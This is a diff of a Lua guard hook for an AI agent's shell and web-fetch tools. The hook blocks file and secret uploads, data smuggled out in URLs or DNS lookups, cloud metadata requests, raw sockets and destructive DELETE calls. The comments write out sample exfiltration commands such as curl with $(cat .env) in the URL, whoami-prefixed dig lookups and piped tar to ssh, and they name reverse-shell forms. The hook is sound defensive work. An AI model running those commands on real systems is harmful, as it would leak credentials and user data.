@@ -1,39 +1,85 @@
--- network: lets the agent reach only allowed hosts, upload nothing to unknown ones, and never ship the environment
+-- network: lets the agent read the web; stops uploads of local files and data, the environment and secrets, and cloud metadata
 --
--- What it stops:
---   - a web-fetch tool (@network: WebFetch, web_fetch, …) or a download
---     command (curl, wget, httpie, xh, aria2c, nc/ncat/socat/telnet,
---     ssh/scp/sftp/rsync to a remote) reaching a host that is not in
---     SETTINGS.allowed_hosts; a host it cannot read ($URL, $(…)) counts
---     as unknown;
---   - an upload of a local file or of data (curl -T/-F/-d @file/--data,
---     wget --post-file, scp/rsync to a remote, nc fed a file) to a host
---     that is not in SETTINGS.upload_hosts;
---   - the environment (env, printenv, set, export -p, /proc/*/environ)
---     piped or substituted into a network command, wherever it goes.
+-- What it stops (each reason names its rule):
+--   - upload: a command sending local files or data to a host that is
+--     not in SETTINGS.upload_hosts: curl -T/--upload-file, -F/--form with
+--     @file or <file, -d/--data*/--json @file or @- (stdin), wget
+--     --post-file/--body-file, httpie/xh items field@file, field=@file,
+--     field:=@file, or its stdin; data the line does not show (a $VAR or
+--     $(…) in -d, --post-data, …); scp/rsync of a local path to a
+--     remote, sftp -b, ssh, nc/socat fed a pipe or a file (tar … | ssh …,
+--     nc host port < file, … | curl -T -);
+--   - computed-url: a URL holding a command's output or piped items
+--     (curl https://x/?d=$(cat .env), … | xargs -I{} curl …/{}), or a
+--     name looked up that holds one (dig $(whoami).x.example): data
+--     leaves in the URL or the name itself (a $VAR in a URL passes);
+--   - delete: -X DELETE (curl, wget --method, httpie) to a host that is
+--     not in upload_hosts (or that the line does not show), or to a data
+--     store's or cluster's HTTP API on
+--     any host (Elasticsearch :9200, CouchDB :5984, Docker :2375, …);
+--   - socket: nc/ncat/netcat/socat/telnet connecting to a host that is
+--     not in upload_hosts (a raw connection carries anything; nc -z,
+--     a port probe, passes);
+--   - metadata: the cloud metadata endpoints (169.254.169.254 in any
+--     spelling, metadata.google.internal, 100.100.100.200, fd00:ec2::254,
+--     all of 169.254.0.0/16): they hand out the machine's credentials;
+--   - raw-ip: a connection to a public IP address written as a number
+--     (private, loopback and link-local networks are not public);
+--   - environment: the environment (env, printenv, set, export -p,
+--     /proc/*/environ) piped or substituted into a network command,
+--     wherever it goes;
+--   - secret-file: a secrets file (lib/secrets.lua's list: .env, keys,
+--     ~/.aws/credentials, …) piped, redirected or named as data into a
+--     network command, wherever it goes;
+--   - allowed-hosts and unreadable-host, only with fetch = "allowed": a
+--     connection to a host outside SETTINGS.allowed_hosts, or to one the
+--     line does not show ($URL, $(…)).
+-- Reading passes: GET and HEAD (curl, wget, httpie, aria2c), web-fetch
+-- tools (@network: WebFetch, web_fetch, …), git clone, scp/rsync from a
+-- remote to here, ssh running a command; so do uploads to upload_hosts
+-- (a local server under test). Reverse shells (nc -e, bash -i >&
+-- /dev/tcp/…, socat exec:, interpreter socket one-liners) are the system
+-- pack's to stop.
 -- Why: what leaves the machine cannot be taken back; the environment
--- holds tokens. The reason names the host and how to allow it.
+-- and secrets files hold tokens; the metadata endpoint hands out the
+-- machine's cloud credentials.
 --
 -- Settings (SETTINGS below):
---   allowed_hosts  hosts the agent may fetch from; "*.example.com" also
---                  matches its subdomains (package registries, GitHub,
---                  documentation sites, localhost)
---   upload_hosts   hosts the agent may send files or data to ({ localhost })
+--   fetch          "any": reading from any host passes (the default);
+--                  "allowed": every connection must go to allowed_hosts
+--   allowed_hosts  hosts the agent may reach with fetch = "allowed";
+--                  "*.example.com" also matches its subdomains (package
+--                  registries, GitHub, documentation sites, localhost)
+--   upload_hosts   hosts the agent may send files or data to, open raw
+--                  connections to and DELETE on ({ localhost })
+--   data_ports     ports of data stores' and clusters' HTTP APIs, where
+--                  DELETE is refused even on upload_hosts
 --
 -- What it cannot know: where a program other than the ones above
--- connects (a script, a package manager's own downloads, git remotes),
--- a host hidden behind a redirect, or what a URL's DNS name resolves to.
--- Web searches (no URL) pass.
+-- connects (a script, a package manager's own downloads, git remotes and
+-- git push), a host hidden behind a redirect or a variable set outside
+-- the line, what a URL's DNS name resolves to (a name pointing at
+-- 169.254.169.254), or what a POST with data written out on the line
+-- does at the other end.
 
 local shell = require("shell")
+local secrets = require("secrets")
 
 local SETTINGS = {
+  fetch = "any",
   allowed_hosts = { "localhost", "127.0.0.1", "::1", "github.com", "*.github.com", "raw.githubusercontent.com",
     "objects.githubusercontent.com", "registry.npmjs.org", "pypi.org", "files.pythonhosted.org",
     "proxy.golang.org", "sum.golang.org", "pkg.go.dev", "go.dev", "crates.io", "static.crates.io",
     "docs.rs", "developer.mozilla.org", "docs.python.org", "stackoverflow.com" },
   upload_hosts = { "localhost", "127.0.0.1", "::1" },
+  data_ports = { 9200, 9300, 5984, 8500, 2379, 8200, 15672, 8086, 6333, 8983, 7474, 8091, 2375, 2376, 10250, 6443,
+    8001, 9000, 9090, 4001, 8529 },
 }
+
+local DATA_PORTS = {}
+for _, p in ipairs(SETTINGS.data_ports) do DATA_PORTS[tostring(p)] = true end
+
+local SECRETS = secrets.matcher()
 
 local function host_in(host, list)
   host = host:lower()
@@ -45,9 +91,10 @@ local function host_in(host, list)
   return false
 end
 
--- host_of returns the host of a URL or of a bare "host[:port][/path]",
--- "" when the word holds an unknown part there, nil when it is neither.
-local function host_of(text, bare)
+-- split_url returns the host and the port of a URL or of a bare
+-- "host[:port][/path]" (port nil when none is written), "" for a host
+-- holding an unknown part, nil when the text is neither.
+local function split_url(text, bare)
   local rest = text:match("^[%a][%w+.-]*://(.*)$")
   if not rest then
     if not bare then return nil end
@@ -55,10 +102,16 @@ local function host_of(text, bare)
   end
   local auth = rest:match("^([^/?#]*)")
   auth = auth:gsub("^.*@", "")
-  local host = auth:match("^%[([^%]]*)%]") or auth:match("^([^:]*)")
+  local host, port = auth:match("^%[([^%]]*)%]:?(%d*)")
+  if not host then host, port = auth:match("^([^:]*):?(.*)$") end
   if host:find("%z") then return "" end
   if host == "" then return nil end
-  return host:lower()
+  if port == "" or not port:find("^%d+$") then port = nil end
+  return host:lower(), port
+end
+
+local function host_of(text, bare)
+  return (split_url(text, bare))
 end
 
 local function looks_like_host(t)
@@ -66,65 +119,299 @@ local function looks_like_host(t)
     or t:find("^%d+%.%d+%.%d+%.%d+") ~= nil
 end
 
+-- ipv4 reads a host written as an IPv4 address the way inet_aton does
+-- (1 to 4 parts, each decimal, 0x hex or 0-led octal: 2852039166,
+-- 0xa9fea9fe and 0251.0376.0251.0376 are all 169.254.169.254) and
+-- returns its four bytes, or nil.
+local function ipv4(h)
+  local parts = {}
+  for p in (h .. "."):gmatch("([^.]*)%.") do
+    local v
+    if p:find("^0[xX]%x+$") then
+      v = tonumber(p:sub(3), 16)
+    elseif p:find("^0[0-7]+$") then
+      v = tonumber(p, 8)
+    elseif p:find("^%d+$") then
+      v = tonumber(p, 10)
+    end
+    if not v or #p > 12 then return nil end
+    parts[#parts + 1] = v
+    if #parts > 4 then return nil end
+  end
+  local n = #parts
+  if n == 0 then return nil end
+  local b = {}
+  for k = 1, n - 1 do
+    if parts[k] > 255 then return nil end
+    b[k] = parts[k]
+  end
+  local last, room = parts[n], 5 - n -- the last part fills the bytes left
+  if last >= 256 ^ room then return nil end
+  for k = 4, n, -1 do
+    b[k] = last % 256
+    last = math.floor(last / 256)
+  end
+  return b
+end
+
+-- METADATA are the cloud metadata endpoints by name and the IPv6 ones.
+local METADATA = { ["metadata.google.internal"] = true, ["metadata.goog"] = true, ["metadata"] = true,
+  ["instance-data"] = true, ["instance-data.ec2.internal"] = true, ["fd00:ec2::254"] = true,
+  ["metadata.azure.internal"] = true }
+
+-- kind classifies a host: "metadata", "public-ip" (an IP address outside
+-- the private, loopback and link-local networks), "local" (the machine or
+-- a private network written as an address) or "name".
+local function kind(h)
+  h = h:gsub("%.$", "")
+  if METADATA[h] then return "metadata" end
+  local b = ipv4(h)
+  if b then
+    if b[1] == 169 and b[2] == 254 then return "metadata" end
+    if b[1] == 100 and b[2] == 100 and b[3] == 100 and b[4] == 200 then return "metadata" end
+    if b[1] == 127 or b[1] == 10 or b[1] == 0 or (b[1] == 172 and b[2] >= 16 and b[2] < 32)
+      or (b[1] == 192 and b[2] == 168) then
+      return "local"
+    end
+    return "public-ip"
+  end
+  if h:find(":") and h:find("^[%x:.]+$") then
+    if h == "::1" or h == "::" or h:find("^f[cd]") or h:find("^fe[89ab]") then return "local" end
+    return "public-ip"
+  end
+  return "name"
+end
+
 local FETCHERS = { curl = true, wget = true, http = true, https = true, xh = true, xhs = true, aria2c = true,
   ["lwp-request"] = true, httpie = true }
+local HTTPIE = { http = true, https = true, xh = true, xhs = true, httpie = true }
 local SOCKETS = { nc = true, ncat = true, netcat = true, socat = true, telnet = true }
 local REMOTES = { ssh = true, scp = true, sftp = true, rsync = true }
+-- PROBES only resolve or reach a name: data leaves in the name itself.
+local PROBES = { dig = true, nslookup = true, host = true, drill = true, ping = true, ping6 = true }
+
 -- Options whose value is not the URL (so a bare word after them is not a host).
 local VALUE_OPTS = {}
-for o in ([[-o --output -T --upload-file -d --data --data-binary --data-raw --data-urlencode --json -F --form
-  -K --config -c --cookie-jar -b --cookie -D --dump-header -E --cert --key --cacert -H --header -u --user -A
-  --user-agent -e --referer -X --request -w --write-out -m --max-time --connect-timeout -x --proxy -r --range
-  -O --output-document -P --directory-prefix --post-file --post-data --body-file --body-data -U --header
-  -i --input-file -a --append-output --retry --limit-rate]]):gmatch("%S+") do VALUE_OPTS[o] = true end
+for o in ([[-o --output -T --upload-file -d --data --data-binary --data-raw --data-urlencode --data-ascii --json -F
+  --form --form-string -K --config -c --cookie-jar -b --cookie -D --dump-header -E --cert --key --cacert -H --header
+  -u --user -A --user-agent -e --referer -X --request -w --write-out -m --max-time --connect-timeout -x --proxy -r
+  --range -O --output-document -P --directory-prefix --post-file --post-data --body-file --body-data -U --header -i
+  --input-file -a --append-output --retry --limit-rate --method --resolve --connect-to -t --tries]]):gmatch("%S+") do
+  VALUE_OPTS[o] = true
+end
 VALUE_OPTS["-O"] = nil -- curl's -O takes none; wget's takes one: a host after it is still checked
 
--- UPLOAD_OPTS send a local file or data.
-local UPLOAD_OPTS = { "^%-T", "^%-%-upload%-file", "^%-F", "^%-%-form", "^%-d", "^%-%-data", "^%-%-json",
-  "^%-%-post%-file", "^%-%-post%-data", "^%-%-body%-file", "^%-%-body%-data", "^%-%-method=[Pp][Oo][Ss][Tt]",
-  "^%-X[Pp][Oo][Ss][Tt]", "^%-XPUT", "^%-%-request=P" }
+-- DATA_OPTS carry data the command sends; FILE_OPTS a file it sends.
+local DATA_OPTS = { ["-d"] = true, ["--data"] = true, ["--data-binary"] = true, ["--data-raw"] = true,
+  ["--data-urlencode"] = true, ["--data-ascii"] = true, ["--json"] = true, ["-F"] = true, ["--form"] = true,
+  ["--form-string"] = true, ["--post-data"] = true, ["--body-data"] = true }
+local FILE_OPTS = { ["-T"] = true, ["--upload-file"] = true, ["--post-file"] = true, ["--body-file"] = true }
+-- FILE_DATA: the data options that read a file, and how their value
+-- names it: curl's -d @file (- for stdin), --data-urlencode @file or
+-- name@file; -F name=@file or name=<file is read apart. --data-raw,
+-- --form-string, wget's --post-data never read one.
+local FILE_DATA = { ["-d"] = "^@(.*)$", ["--data"] = "^@(.*)$", ["--data-binary"] = "^@(.*)$",
+  ["--data-ascii"] = "^@(.*)$", ["--json"] = "^@(.*)$", ["--data-urlencode"] = "^[^=@]*@(.*)$" }
 
--- hosts returns the hosts cmd reaches ("" for an unknown one) and
--- whether it uploads.
-local function hosts(c)
-  local out, upload = {}, false
-  local n = c.name
-  if FETCHERS[n] then
-    local prev
-    for _, a in ipairs(c.args) do
-      local t = a.text
-      for _, p in ipairs(UPLOAD_OPTS) do
-        if t:find(p) then upload = true end
-      end
-      if (n == "http" or n == "https" or n == "xh" or n == "httpie") and t:find("^[%w_-]+:?=?@") then
-        upload = true
-      end
-      if t:sub(1, 1) ~= "-" then
-        local h = host_of(t, not (prev and VALUE_OPTS[prev]) and (a.unknown or looks_like_host(t)))
-        if a.whole and not (prev and VALUE_OPTS[prev]) then h = "" end
-        if h then out[#out + 1] = h end
-      end
-      prev = t:sub(1, 1) == "-" and not t:find("=") and t or nil
-    end
-  elseif SOCKETS[n] then
-    for _, a in ipairs(c.args) do
-      if a.text:sub(1, 1) ~= "-" and not a.text:find("^%d+$") then
-        local t = a.text:gsub("^[%u%-]+:", ""):gsub(",.*$", "")
-        out[#out + 1] = a.whole and "" or host_of(t, true) or ""
-        break
-      end
-    end
-    upload = c.pipe_in or #c.redirs > 0
-  elseif REMOTES[n] then
-    for _, a in ipairs(c.args) do
-      local t = a.text
-      local h = t:match("^[^/-][^/]*@([^:/]+)") or t:match("^([%w.-]+):") or (n == "ssh" and t:match("^[^-][%w.-]*$"))
-      if a.whole then h = "" end
-      if h and h ~= "" and (n ~= "ssh" or not out[1]) then out[#out + 1] = h:lower() end
-    end
-    upload = n ~= "ssh" or c.pipe_in
+-- computed reports whether a word holds a command's output or items
+-- piped to xargs (a variable is not that).
+local function computed(w)
+  return w.unknown and (w.source == "subst" or w.source == "proc" or w.source == "stdin" or w.source == "overflow")
+end
+
+-- stdin describes what a command reads on its input when that is local
+-- data: a file (< f), or a pipe from a command whose output the line does
+-- not show; nil for none, or for text written out on the line (echo '{}' |
+-- http POST …, a here-document).
+local function stdin(c)
+  for _, r in ipairs(c.redirs) do
+    if r.op == "<" then return "a local file (" .. r.target.text .. ")" end
   end
-  return out, upload
+  if c.pipe_in and not (c.upstream and shell.output(c.upstream)) then return "its input (a pipe)" end
+  return nil
+end
+
+-- option_value splits an option word: "-dX" -> "-d", "X"; "--data=X" ->
+-- "--data", "X"; other words -> the word, nil.
+local function option_value(t)
+  local long, v = t:match("^(%-%-[%w-]+)=(.*)$")
+  if long then return long, v end
+  local short, rest = t:match("^(%-[dFTXHo])(.+)$")
+  if short then return short, rest end
+  return t, nil
+end
+
+-- fetcher reads a curl/wget/httpie/… command: its URLs' words, what it
+-- uploads (a short description) and its method.
+local function fetcher(c)
+  local out = { urls = {}, upload = nil, method = nil, files = {} }
+  local n = c.name
+  local args = c.args
+  local k = 1
+  local httpie_method_seen = false
+  while k <= #args do
+    local a = args[k]
+    local t = a.text
+    if t:sub(1, 1) == "-" and not a.whole then
+      local opt, v = option_value(t)
+      local vw = nil -- the value's word, when it is the next word
+      if v == nil and VALUE_OPTS[opt] then
+        vw = args[k + 1]
+        v = vw and vw.text
+        k = k + 1
+      end
+      if v then
+        local unknown = vw and vw.unknown or (not vw and a.unknown)
+        if FILE_OPTS[opt] then
+          if v == "-" then
+            out.upload = out.upload or stdin(c)
+          else
+            out.upload = out.upload or ("a local file (" .. v .. ")")
+            out.files[#out.files + 1] = v
+          end
+        elseif DATA_OPTS[opt] then
+          local file = FILE_DATA[opt] and v:match(FILE_DATA[opt])
+          if not file and (opt == "-F" or opt == "--form") then file = v:match("^[^=]*=[@<]([^;]*)") end
+          if file == "-" then
+            out.upload = out.upload or stdin(c)
+          elseif file then
+            out.upload = out.upload or ("a local file (" .. file .. ")")
+            out.files[#out.files + 1] = file
+          elseif unknown then
+            out.upload = out.upload or "data the command line does not show ($VAR, $(…))"
+          end
+        elseif opt == "-X" or opt == "--request" or opt == "--method" then
+          out.method = v:upper()
+        end
+      end
+    else
+      if HTTPIE[n] then
+        if not httpie_method_seen and #out.urls == 0 and t:find("^%u+$") then
+          out.method = t
+          httpie_method_seen = true
+        elseif #out.urls > 0 and (t:find("^[%w_.%-%[%]]+:?=?@") or t:find("^@")) then
+          local file = t:match("@(.*)$")
+          out.upload = out.upload or ("a local file (" .. file .. ")")
+          out.files[#out.files + 1] = file
+        elseif #out.urls > 0 and a.unknown and t:find("^[%w_.%-%[%]]+:?=") then
+          out.upload = out.upload or "data the command line does not show ($VAR, $(…))"
+        elseif #out.urls == 0 or (t:find("://") or looks_like_host(t)) then
+          out.urls[#out.urls + 1] = a
+        end
+      else
+        out.urls[#out.urls + 1] = a
+      end
+    end
+    k = k + 1
+  end
+  if HTTPIE[n] then out.upload = out.upload or stdin(c) end
+  return out
+end
+
+-- remote_target returns the host of an scp/rsync/sftp operand
+-- ("user@host:path", "host:path", "host::module", "rsync://host/x"), or
+-- nil for a local path.
+local function remote_target(t)
+  if t:find("^%a[%w+.-]*://") then return host_of(t, false) end
+  if t:find("^/") or t:find("^%.") or t:find("^~") then return nil end
+  return (t:match("^[^/:]*@([^:/]+):") or t:match("^([%w.%-_]+):") or t:match("^%[([%x:]+)%]:"))
+end
+
+-- remote reads an ssh/scp/sftp/rsync command: the hosts it reaches and
+-- what it uploads.
+local function remote(c)
+  local n = c.name
+  local hosts, upload = {}, nil
+  local ops = {}
+  local skip = false
+  for _, a in ipairs(c.args) do
+    local t = a.text
+    if skip then
+      skip = false
+    elseif t:sub(1, 1) == "-" and not a.whole then
+      -- options whose value is the next word
+      local takes = n == "ssh" and "^%-[BbcDEeFIiJLlmOoPpQRSWw]$" or n == "scp" and "^%-[cDFiJlloPS]$"
+        or n == "sftp" and "^%-[BbcDFiJloPRSs]$"
+      if takes and t:find(takes) then skip = true end
+      if n == "rsync" and (t == "-e" or t == "--rsh" or t == "-f" or t == "--filter" or t == "--exclude"
+        or t == "--include" or t == "--exclude-from" or t == "--include-from" or t == "-T" or t == "--temp-dir") then
+        skip = true
+      end
+      if n == "sftp" and t:find("^%-b") then upload = "the files of a batch (sftp -b)" end
+    else
+      ops[#ops + 1] = a
+    end
+  end
+  if n == "ssh" then
+    local h = ops[1] and (ops[1].whole and "" or ops[1].text:match("@([^@]+)$") or ops[1].text)
+    if h then hosts[1] = h:gsub("^%[(.*)%]$", "%1"):lower() end
+    return hosts, stdin(c), {}
+  end
+  if n == "sftp" then
+    local h = ops[1] and (ops[1].whole and "" or remote_target(ops[1].text) or ops[1].text:match("@([^@:]+)$")
+      or ops[1].text)
+    if h then hosts[1] = h:lower() end
+    local fed = c.pipe_in
+    for _, r in ipairs(c.redirs) do
+      if r.op == "<" or r.op == "<<" or r.op == "<<<" then fed = true end
+    end
+    if fed then upload = upload or "the files its commands name (sftp fed commands)" end
+    return hosts, upload, {}
+  end
+  -- scp, rsync: the last operand is the destination
+  local sources = {}
+  if #ops < 2 then return hosts, upload, sources end
+  local dest = ops[#ops]
+  local dh = dest.whole and "" or remote_target(dest.text)
+  for k = 1, #ops - 1 do
+    local h = ops[k].whole and "" or remote_target(ops[k].text)
+    if h then hosts[#hosts + 1] = h:lower() end
+  end
+  if dh then
+    hosts[#hosts + 1] = dh:lower()
+    for k = 1, #ops - 1 do
+      if not (ops[k].whole or remote_target(ops[k].text)) then
+        upload = upload or ("the local path " .. ops[k].text)
+        sources[#sources + 1] = ops[k]
+      end
+    end
+  end
+  return hosts, upload, sources
+end
+
+-- socket reads an nc/ncat/socat/telnet command: its host, whether it only
+-- probes a port (nc -z) and whether it is fed data.
+local function socket(c)
+  local n = c.name
+  local host, probe = nil, false
+  for _, a in ipairs(c.args) do
+    local t = a.text
+    if t:sub(1, 1) == "-" and not a.whole then
+      if t:find("^%-[%a]*z") then probe = true end
+    elseif not host and not t:find("^%d+$") then
+      if n == "socat" then
+        local l = t:lower()
+        local addr = l:match("^tcp%d?:(.*)$") or l:match("^tcp%d?%-connect:(.*)$") or l:match("^udp%d?:(.*)$")
+          or l:match("^udp%d?%-connect:(.*)$") or l:match("^openssl:(.*)$") or l:match("^ssl:(.*)$")
+          or l:match("^openssl%-connect:(.*)$")
+        if addr then
+          host = (a.unknown or addr:find("%z")) and "" or addr:match("^%[([^%]]*)%]") or addr:match("^([^:,]*)")
+        end
+      else
+        host = a.whole and "" or host_of(t, true) or ""
+      end
+    end
+  end
+  local fed = stdin(c)
+  if n == "socat" then
+    for _, a in ipairs(c.args) do
+      local l = a.text:lower()
+      if l:find("^file:") or l:find("^open:") or l:find("^gopen:") or l:find("^create:") then
+        fed = fed or ("a local file (" .. a.text:gsub("^[^:]*:", ""):gsub(",.*$", "") .. ")")
+      end
+    end
+  end
+  return host, probe, fed
 end
 
 local ENV_DUMPERS = { env = true, printenv = true, set = true, declare = true, compgen = true }
@@ -147,11 +434,11 @@ local function environment(c)
 end
 
 local function network_cmd(c)
-  return FETCHERS[c.name or ""] or SOCKETS[c.name or ""] or REMOTES[c.name or ""]
+  local n = c.name or ""
+  return FETCHERS[n] or SOCKETS[n] or REMOTES[n] or PROBES[n]
 end
 
 local function ships_environment(c)
-  if not network_cmd(c) then return false end
   local up = c.upstream
   while up do
     if environment(up) then return true end
@@ -169,54 +456,219 @@ local function ships_environment(c)
   return false
 end
 
-local function deny(why, instead)
-  return hook.deny("network pack: blocked " .. why .. "; " .. instead .. ".")
+-- sends_secret returns the secrets file a network command c sends: one
+-- named by a command piped into it or whose output a word of it holds
+-- (cat .env | curl …, curl -d "$(cat .env)"), one it reads from a <
+-- redirection, or one of data, the files it sends (@.env, scp
+-- ~/.ssh/id_rsa host:); nil if none. A file c only uses (ssh -i key,
+-- curl --cert x.pem) is not sent.
+local function sends_secret(c, data)
+  local function named(cmd)
+    for _, a in ipairs(cmd.args) do
+      local hit = SECRETS.file(a)
+      if hit then return hit end
+    end
+    for _, r in ipairs(cmd.redirs) do
+      if r.op == "<" then
+        local hit = SECRETS.file(r.target)
+        if hit then return hit end
+      end
+    end
+    return nil
+  end
+  local up = c.upstream
+  while up do
+    local hit = named(up)
+    if hit then return hit end
+    up = up.upstream
+  end
+  for _, r in ipairs(c.redirs) do
+    if r.op == "<" then
+      local hit = SECRETS.file(r.target)
+      if hit then return hit end
+    end
+  end
+  for _, d in ipairs(data) do
+    local hit = SECRETS.file(type(d) == "table" and d or secrets.path_word(d))
+    if hit then return hit end
+  end
+  local hit
+  for _, a in ipairs(c.args) do
+    shell.producers(a, function(p) hit = hit or named(p) end)
+    if hit then return hit end
+  end
+  return nil
 end
 
-local function judge(list, upload)
-  for _, h in ipairs(list) do
-    if h == "" then
-      return deny("a connection to a host that cannot be read before the command runs",
+local function deny(rule, why, instead)
+  return hook.deny("network pack: blocked " .. why .. " [rule " .. rule .. "]; " .. instead .. ".")
+end
+
+local function p(s) return shell.printable(s) end
+
+-- judge_host answers a connection to host h: nil when it may go ahead.
+local function judge_host(h)
+  if h == "" then
+    if SETTINGS.fetch == "allowed" then
+      return deny("unreadable-host", "a connection to a host that cannot be read before the command runs",
         "write the URL out in full")
     end
+    return nil
+  end
+  local k = kind(h)
+  if k == "metadata" then
+    return deny("metadata", "a request to the cloud metadata endpoint " .. p(h) ..
+      ", which hands out the machine's credentials", "do not read instance metadata; ask the user for what you need")
+  end
+  if SETTINGS.fetch == "allowed" then
     if not host_in(h, SETTINGS.allowed_hosts) then
-      return deny("a connection to " .. shell.printable(h) .. ", which is not an allowed host",
-        "use an allowed host, or ask the user to add " .. shell.printable(h) .. " to allowed_hosts in network.lua")
+      return deny("allowed-hosts", "a connection to " .. p(h) .. ", which is not an allowed host",
+        "use an allowed host, or ask the user to add " .. p(h) .. " to allowed_hosts in network.lua")
     end
-    if upload and not host_in(h, SETTINGS.upload_hosts) then
-      return deny("sending local files or data to " .. shell.printable(h),
-        "ask the user to upload it, or to add the host to upload_hosts in network.lua")
+  elseif k == "public-ip" and not host_in(h, SETTINGS.upload_hosts) then
+    return deny("raw-ip", "a connection to the bare IP address " .. p(h),
+      "use the host's name, or ask the user to fetch it")
+  end
+  return nil
+end
+
+local function judge_upload(h, what)
+  if h ~= "" and host_in(h, SETTINGS.upload_hosts) then return nil end
+  return deny("upload", "uploading " .. p(what) .. " to " .. (h == "" and "a host the line does not show" or p(h)),
+    "ask the user to upload it, or to add the host to upload_hosts in network.lua")
+end
+
+local function no_env_no_secret(c, data)
+  if ships_environment(c) then
+    return deny("environment", "sending the environment (env, printenv) over the network",
+      "never send environment variables; they hold tokens")
+  end
+  local hit = sends_secret(c, data)
+  if hit then
+    return deny("secret-file", "sending " .. p(hit) .. ", which may hold secrets, over the network",
+      "ask the user for what you need instead")
+  end
+  return nil
+end
+
+local NO_DATA = {}
+
+-- judge reads one parsed command: nil when it may run.
+local function judge(c)
+  local n = c.name
+  if n == nil then
+    -- a program whose name is computed may be any of the above
+    for _, a in ipairs(c.args) do
+      local h = host_of(a.text, false)
+      if h then
+        local r = judge_host(h)
+        if r then return r end
+      end
+    end
+    return nil
+  end
+  if FETCHERS[n] then
+    local f = fetcher(c)
+    local r = no_env_no_secret(c, f.files)
+    if r then return r end
+    for _, w in ipairs(f.urls) do
+      local h, port = split_url(w.text, w.unknown or looks_like_host(w.text))
+      if w.whole then h = "" end
+      if computed(w) and h then
+        return deny("computed-url", "a URL holding a command's output or piped data (" .. p(w.text) .. ")",
+          "write the URL out in full; never put file contents in a URL")
+      end
+      if h then
+        r = judge_host(h)
+        if r then return r end
+        if f.upload then
+          r = judge_upload(h, f.upload)
+          if r then return r end
+        end
+        if f.method == "DELETE" and (h == "" or not host_in(h, SETTINGS.upload_hosts) or (port and DATA_PORTS[port])) then
+          return deny("delete", "a DELETE request to " .. (h == "" and "a host the line does not show" or p(h)) ..
+            (port and (":" .. port) or "") .. (port and DATA_PORTS[port] and ", a data store's or cluster's API" or ""),
+            "ask the user to delete it, or do it with the service's own tool and a narrow target")
+        end
+      end
+    end
+    return nil
+  end
+  if SOCKETS[n] then
+    local r = no_env_no_secret(c, NO_DATA)
+    if r then return r end
+    local h, probe, fed = socket(c)
+    if not h then return nil end
+    r = judge_host(h)
+    if r then return r end
+    if fed then return judge_upload(h, fed) end
+    if not probe and (h == "" or not host_in(h, SETTINGS.upload_hosts)) then
+      return deny("socket", "a raw connection (" .. n .. ") to " .. (h == "" and "a host the line does not show" or p(h)),
+        "use curl or the service's own client; nc -z only probes a port")
+    end
+    return nil
+  end
+  if REMOTES[n] then
+    local hosts, upload, sources = remote(c)
+    local r = no_env_no_secret(c, sources)
+    if r then return r end
+    for _, h in ipairs(hosts) do
+      r = judge_host(h)
+      if r then return r end
+      if upload then
+        r = judge_upload(h, upload)
+        if r then return r end
+      end
+    end
+    return nil
+  end
+  if PROBES[n] then
+    for _, a in ipairs(c.args) do
+      if computed(a) then
+        return deny("computed-url", "a name holding a command's output or piped data (" .. p(a.text) .. ")",
+          "look up a name written out in full")
+      end
+      if a.text:sub(1, 1) ~= "-" and not a.unknown and kind(a.text) == "metadata" then
+        return judge_host(a.text)
+      end
     end
   end
   return nil
 end
 
+-- The programs the rules look at by name, for shell.quick: a plain line
+-- (one simple command, no pipes, redirections or expansions) running none
+-- of them sends nothing anywhere and is allowed without parsing.
+local PROGRAMS = {}
+for _, set in ipairs({ FETCHERS, SOCKETS, REMOTES, PROBES }) do
+  for name in pairs(set) do PROGRAMS[#PROGRAMS + 1] = re.quote(name) end
+end
+table.sort(PROGRAMS)
+local _, QUICK_MAX, QUICK_STOP = shell.quick({ programs = { PROGRAMS } })
+
 hook.register("PreToolUse", "@shell", function(input)
-  local line = shell.command(input.toolInput)
-  if not line then return nil end
+  -- The command line (shell.command's reading, made here: a hook that
+  -- hands no table of its input to another function keeps the input's
+  -- tables for the next call, and the usual call allocates nothing).
+  local args = input.toolInput
+  local line = type(args) == "table" and (args.command or args.cmd) or nil
+  if type(line) == "table" then
+    local parts = {}
+    for _, a in ipairs(line) do parts[#parts + 1] = shell.quote(tostring(a)) end
+    line = table.concat(parts, " ")
+  elseif type(line) ~= "string" then
+    return nil
+  end
+  if #line < QUICK_MAX and not re.match(QUICK_STOP, line) then return nil end
   local cmds, err = shell.parse(line)
   for _, c in ipairs(cmds) do
-    if ships_environment(c) then
-      return deny("sending the environment (env, printenv) over the network",
-        "never send environment variables; they hold tokens")
-    end
-    if network_cmd(c) then
-      local list, upload = hosts(c)
-      local r = judge(list, upload)
+    if network_cmd(c) or (c.name == nil and c.word and c.word.whole) then
+      local r = judge(c)
       if r then return r end
-    elseif c.name == nil and c.word and c.word.whole then
-      -- a program whose name is computed may be any of the above
-      for _, a in ipairs(c.args) do
-        local h = host_of(a.text, false)
-        if h then
-          local r = judge({ h }, false)
-          if r then return r end
-        end
-      end
     end
   end
   if err then
-    return deny("a command that could not be checked (" .. err .. ")", "split it into shorter commands")
+    return deny("unreadable", "a command that could not be checked (" .. err .. ")", "split it into shorter commands")
   end
 end, { name = "pack-network-shell", stage = "validate", timeout_ms = 1000, failure_policy = "closed", policy = true })
 
@@ -226,7 +678,7 @@ hook.register("PreToolUse", "@network", function(input)
   if type(url) ~= "string" then return nil end
   local h = host_of(url, true)
   if not h or h == "" then
-    return deny("a fetch of " .. shell.printable(url) .. ", whose host cannot be read", "give a full https:// URL")
+    return deny("unreadable-host", "a fetch of " .. p(url) .. ", whose host cannot be read", "give a full https:// URL")
   end
-  return judge({ h }, false)
+  return judge_host(h)
 end, { name = "pack-network-fetch", stage = "validate", failure_policy = "closed", policy = true })
